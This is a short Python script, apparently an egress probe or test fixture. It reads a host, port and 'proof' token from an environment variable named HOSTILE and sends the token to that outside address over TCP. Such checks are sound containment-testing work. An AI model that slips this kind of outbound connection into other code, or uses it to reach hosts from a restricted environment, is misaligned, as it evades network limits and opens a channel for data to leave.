"""Connects to an address of the outside."""

import json
import os
import socket

W = json.loads(os.environ["HOSTILE"])
with socket.create_connection((W["outside"], W["tcp"]), 1) as client:
    client.sendall(W["proof"].encode())
